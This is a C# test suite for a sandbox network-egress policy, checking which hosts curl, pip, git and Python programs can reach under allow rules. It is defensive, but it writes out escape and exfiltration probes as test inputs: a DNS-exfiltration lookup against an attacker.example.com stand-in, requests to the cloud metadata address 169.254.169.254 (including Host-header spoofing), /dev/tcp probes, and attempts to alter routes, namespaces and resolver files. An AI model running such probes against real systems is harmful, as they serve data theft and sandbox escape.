using System.Net;
using System.Net.NetworkInformation;
using System.Net.Sockets;
using OpenInteractions.Contracts.Environments;
using OpenInteractions.Contracts.Json;
using OpenInteractions.Sandboxes.Frames;
using OpenInteractions.Sandboxes.Tests.Egress;
using OpenInteractions.Sandboxes.Tests.Init;
using static OpenInteractions.Sandboxes.Tests.Egress.EgressPolicyTests;
using DoorSet = OpenInteractions.Sandboxes.Frames.Doors;

namespace OpenInteractions.Sandboxes.Tests.Doors;

/// <summary>What programs reach, and what they do not.</summary>
internal static class DoorChecks
{
    public static IReadOnlyList<DoorCheck> All { get; } =
    [
        new("all doors are open and no program is told of a proxy", async s =>
        {
            var room = await s.EnterAsync(Rules(["api.example.com"]));
            Assert.Equal(DoorSet.Proxy | DoorSet.Transparent, room.Sandbox.Doors);
            Assert.DoesNotContain("proxy", (await room.RunAsync("env")).Output, StringComparison.OrdinalIgnoreCase);
        }),
        new("curl reaches an allowed name over HTTP without settings", async s =>
        {
            var room = await s.EnterAsync(Rules(["api.example.com"]));
            Assert.Equal("ok", (await room.RunAsync("curl -sS http://api.example.com/a?b=c")).Output);
            Assert.StartsWith("GET /a?b=c HTTP/1.1\r\nHost: api.example.com\r\n", Assert.Single(s.Rig.Requests), StringComparison.Ordinal);
            await s.Rig.Log.SeenAsync("4101 ", "of env-", $"({EgressRig.Project})", "GET api.example.com:80/a 200");
        }),
        new("curl reaches an allowed name over TLS and has the server's own certificate", async s =>
        {
            var room = await s.EnterAsync(Rules(["api.example.com"]));
            var finished = await room.RunAsync("curl -sSkv https://api.example.com/");
            Assert.Equal("ok", finished.Output);
            Assert.Contains("issuer: CN=outside", finished.Error, StringComparison.Ordinal);
        }),
        new("curl by the proxy, over HTTP and TLS", async s =>
        {
            var room = await s.EnterAsync(Rules(["api.example.com"]));
            Assert.Equal("okok", (await room.RunAsync("curl -sS -x http://127.0.0.1:3128 http://api.example.com/; https_proxy=http://127.0.0.1:3128 curl -sSk https://api.example.com/")).Output);
            Assert.Equal(2, s.Rig.Requests.Count);
        }),
        new("urllib over HTTP and TLS, and by a proxy", async s =>
        {
            var room = await s.EnterAsync(Rules([], Entry("api.example.com", ("X-Added", "by-the-rule"))));
            var program = """
                import urllib.request as u, os
                print(u.urlopen('https://api.example.com/x').read().decode())
                os.environ['https_proxy'] = 'http://127.0.0.1:3128'
                print(u.build_opener(u.ProxyHandler()).open('https://api.example.com/y').read().decode())
                """;
            var finished = await room.PythonAsync(program);
            Assert.Equal("ok\nok\n", finished.Output + finished.Error);
            Assert.All(s.Rig.Requests, r => Assert.Contains("X-Added: by-the-rule", r, StringComparison.Ordinal));
        }),
        new("git reaches an allowed name and trusts the sandbox's authority", async s =>
        {
            s.Rig.Answer = (_, stream) => EgressRig.Write(stream, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n");
            var room = await s.EnterAsync(Rules([], Entry("api.example.com", ("Authorization", "Basic c2VjcmV0LXRva2Vu"))));
            var finished = await room.RunAsync("git ls-remote https://api.example.com/r.git");
            Assert.Contains("not found", finished.Error, StringComparison.Ordinal);
            Assert.Contains(s.Rig.Requests, r => r.StartsWith("GET /r.git/info/refs", StringComparison.Ordinal) && r.Contains("Authorization: Basic c2VjcmV0LXRva2Vu", StringComparison.Ordinal));
        }),
        new("pip reaches an allowed index", async s =>
        {
            const string Page = "<a href=\"https://other.example.com/oi_x-1.0-py3-none-any.whl\">oi_x-1.0-py3-none-any.whl</a>";
            s.Rig.Answer = (_, stream) => EgressRig.Write(stream, $"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {Page.Length}\r\n\r\n{Page}");
            var room = await s.EnterAsync(Rules([], Entry("api.example.com", ("X-Added", "yes")), Entry("other.example.com", ("X-Added", "yes"))));
            await room.RunAsync("/usr/bin/python3 -m pip download --retries 0 --no-cache-dir --disable-pip-version-check --no-deps -i https://api.example.com/simple oi-x", 60);
            Assert.Contains(s.Rig.Requests, r => r.StartsWith("GET /simple/oi-x/", StringComparison.Ordinal));
            Assert.Contains(s.Rig.Requests, r => r.Contains("Host: other.example.com", StringComparison.Ordinal));
        }),
        new("a name that no rule allows does not exist, over datagrams and TCP, and the proxy refuses it", async s =>
        {
            var room = await s.EnterAsync(Rules(["api.example.com"]));
            var finished = await room.PythonAsync(Dns + """
                for name, tcp in (('evil.example.org', False), ('evil.example.org', True), ('api.example.com', False), ('api.example.com', True)):
                    a = ask(name, tcp); print(name, a[3] & 15, a[7])
                """);
            Assert.Equal("evil.example.org 3 0\nevil.example.org 3 0\napi.example.com 0 1\napi.example.com 0 1\n", finished.Output + finished.Error);
            Assert.Equal("6\n403\n2\n", (await room.RunAsync("curl -s http://evil.example.org/; echo $?; curl -s -o /dev/null -w '%{http_code}\\n' -x http://127.0.0.1:3128 http://evil.example.org/; getent hosts evil.example.org; echo $?")).Output);
            Assert.Empty(s.Rig.Requests);
            await s.Rig.Log.SeenAsync("4102 ", "evil.example.org");
        }),
        new("a name carries nothing out", async s =>
        {
            var room = await s.EnterAsync(Rules(["*"]));
            await room.RunAsync("getent hosts c2VjcmV0.attacker.example.com");
            Assert.Empty(s.Rig.Dialled);
        }),
        new("addresses lead nowhere", async s =>
        {
            using var own = new TcpListener(IPAddress.Any, 0);
            own.Start();
            var port = ((IPEndPoint)own.LocalEndpoint).Port;
            var addresses = NetworkInterface.GetAllNetworkInterfaces().SelectMany(i => i.GetIPProperties().UnicastAddresses).Select(a => a.Address).Where(a => a.AddressFamily == AddressFamily.InterNetwork)
                .Select(a => $"('{a}', {port})");
            var room = await s.EnterAsync(null);
            var program = $$"""
                import socket
                for to in ('93.184.216.34', 80), ('93.184.216.34', 443), ('169.254.169.254', 80), ('10.0.0.1', 80), ('172.17.0.1', 80), ('8.8.8.8', 53), ('198.20.0.1', 80), {{string.Join(", ", addresses)}}:
                    try:
                        socket.create_connection(to, 3).close(); print('reached', to)
                    except OSError:
                        pass
                for to in ('8.8.8.8', 53), ('169.254.169.254', 53):
                    try:
                        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'x' * 30, to); print('sent', to)
                    except OSError:
                        pass
                for family in socket.AF_INET6,:
                    try:
                        socket.create_connection(('2606:2800:220:1::1', 80), 3); print('reached 6')
                    except OSError:
                        pass
                print('done')
                """;
            Assert.Equal("done\n", (await room.PythonAsync(program)).Output);
            var codes = await room.RunAsync("for u in http://93.184.216.34/ http://169.254.169.254/latest http://127.0.0.1/ http://0x7f000001/ http://localhost:" + port + "/ http://[::1]/; do curl -g -s -o /dev/null -w '%{http_code} ' -x http://127.0.0.1:3128 $u; done; "
                + "curl -s -o /dev/null -w '%{http_code} ' -H 'Host: 169.254.169.254' http://api.example.com/; curl -s -o /dev/null -w '%{http_code}' --connect-to ::198.18.9.9:443 https://api.example.com/");
            Assert.Equal("403 403 403 403 403 403 403 000", codes.Output);
            Assert.False(own.Pending());
            Assert.Empty(s.Rig.Dialled);
        }),
        new("names that lead into this network are refused", async s =>
        {
            s.Rig.Name("inside.example.com", ["10.0.0.7"]);
            s.Rig.Name("metadata.example.com", ["169.254.169.254"]);
            s.Rig.Name("self.example.com", ["127.0.0.1"]);
            var room = await s.EnterAsync(null);
            Assert.Equal("403 403 403 ", (await room.RunAsync("for n in inside metadata self; do curl -s -o /dev/null -w '%{http_code} ' http://$n.example.com/; done")).Output);
            Assert.Empty(s.Rig.Dialled);
        }),
        new("without rules every public name passes, and disabled lets nothing pass", async s =>
        {
            var open = await s.EnterAsync(null);
            Assert.Equal("ok", (await open.RunAsync("curl -sS http://whatever.example.org/")).Output);
            var closed = await s.EnterAsync(new StringOr<NetworkRules>("disabled"));
            Assert.Equal("6 403", (await closed.RunAsync("curl -s http://api.example.com/; echo -n \"$? \"; curl -s -o /dev/null -w '%{http_code}' -x http://127.0.0.1:3128 http://api.example.com/")).Output);
            Assert.Single(s.Rig.Requests);
        }),
        new("other ports are closed", async s =>
        {
            var room = await s.EnterAsync(null);
            Assert.Equal("7 403 56", (await room.RunAsync("curl -s http://api.example.com:8080/; echo -n \"$? \"; curl -s -o /dev/null -w '%{http_code} ' -x http://127.0.0.1:3128 http://api.example.com:8080/; curl -s -x http://127.0.0.1:3128 https://api.example.com:22/; echo -n $?")).Output);
            Assert.Empty(s.Rig.Dialled);
        }),
        new("without a network there are no doors", async s =>
        {
            await s.Engine.CreateDiskAsync("bare", 19, 64 * 1024 * 1024, Within.Time);
            await using (var sandbox = await s.Engine.StartUncheckedAsync(new SandboxSpec { Id = "bare", Disk = "bare", Slot = 19, Limits = Attacks.Scene.Limits }, Within.Time))
            {
                var finished = await Finished.OfAsync(await sandbox.StartAsync(new CommandSpec { Arguments = ["bash", "-c", "for p in 127.0.0.1/3128 127.0.0.1/80 198.18.0.2/53 198.18.1.0/80; do (exec 3<>/dev/tcp/$p) 2>/dev/null && echo reached $p; done; echo done"] }, Within.Time));
                Assert.Equal(("done\n", DoorSet.None), (finished.Output, sandbox.Doors));
            }

            await s.Engine.DeleteDiskAsync("bare", Within.Time);
        }),
        new("the doors of a neighbour are not reachable", async s =>
        {
            var mine = await s.EnterAsync(Rules(["other.example.com"]));
            var neighbour = await s.EnterAsync(Rules(["api.example.com"]));
            Assert.Equal("ok", (await neighbour.RunAsync("curl -sS http://api.example.com/")).Output);
            var address = (await neighbour.RunAsync("getent hosts api.example.com | cut -d' ' -f1")).Output.Trim();
            Assert.Equal("403 6", (await mine.RunAsync($"curl -s -o /dev/null -w '%{{http_code}} ' -H 'Host: api.example.com' http://{address}/; curl -s http://api.example.com/; echo -n $?")).Output);
            Assert.Single(s.Rig.Requests);
        }),
        new("nothing of how the doors were made is left to commands", async s =>
        {
            var room = await s.EnterAsync(null);
            var finished = await room.RunAsync("grep -h Cap /proc/self/status | sort -u | grep -v 0000000000000000; ip route add 10.0.0.0/8 dev lo 2>/dev/null && echo route; ip addr add 10.0.0.1/8 dev lo 2>/dev/null && echo address; "
                + "(echo 1 >/proc/sys/net/ipv4/ip_forward) 2>/dev/null && echo sysctl; unshare -rn true 2>/dev/null && echo namespace; (echo x >/etc/oi/authority.crt) 2>/dev/null && echo authority; (echo x >/etc/resolv.conf) 2>/dev/null && echo resolv; "
                + "ls -l /proc/self/fd | grep -E 'authorit|seccomp' ; echo done");
            Assert.Equal("done\n", finished.Output);
            if (OpenInteractions.Sandboxes.Linux.Native.IsRoot)
            {
                Assert.DoesNotContain(s.Engine.Directory.Root, (await room.RunAsync("cat /proc/self/mountinfo")).Output, StringComparison.Ordinal);
            }
        }),
        new("other rules hold at once and cut what they do not allow", async s =>
        {
            var gone = s.Rig.Gone;
            s.Rig.Answer = async (request, stream) =>
            {
                await EgressRig.Write(stream, "HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\nbegin\n");
                await Task.Delay(Timeout.Infinite, gone);
            };
            var room = await s.EnterAsync(Rules(["api.example.com", "other.example.com"]));
            const string Begun = "for i in $(seq 1000); do [ -s /tmp/$0 ] && break; sleep 0.05; done; cat /tmp/$0";
            var dropped = await room.StartAsync("bash", "-c", "curl -sSN http://api.example.com/ | tee /tmp/dropped; echo ${PIPESTATUS[0]}");
            var kept = await room.StartAsync("bash", "-c", "curl -sSN http://other.example.com/ | tee /tmp/kept; sleep 1000");
            foreach (var name in (string[])["dropped", "kept"])
            {
                Assert.Equal("begin\n", (await room.RunAsync(Begun.Replace("$0", name, StringComparison.Ordinal))).Output);
            }

            room.Network.Replace(DoorScene.Spec(Rules(["other.example.com", "new.example.com"])));
            Assert.Equal("begin\n56\n", (await Finished.OfAsync(dropped)).Output.Replace("18\n", "56\n", StringComparison.Ordinal));
            s.Rig.Answer = (_, stream) => EgressRig.Write(stream, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
            Assert.Equal("ok6", (await room.RunAsync("curl -sS http://new.example.com/; curl -s http://api.example.com/; echo -n $?")).Output);
            Assert.False(kept.Result.IsCompleted);
            await s.Rig.Log.SeenAsync("4104 ", "2 rules");
        }),
    ];

    /// <summary>Asks the resolver of /etc/resolv.conf by hand.</summary>
    public const string Dns = """
        import socket, struct
        server = next(l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver'))
        def ask(name, tcp):
            q = struct.pack('>6H', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\0' + struct.pack('>2H', 1, 1)
            if tcp:
                with socket.create_connection((server, 53), 5) as c:
                    c.sendall(struct.pack('>H', len(q)) + q)
                    return c.recv(2000)[2:]
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as u:
                u.settimeout(5); u.sendto(q, (server, 53))
                return u.recvfrom(2000)[0]

        """;
}
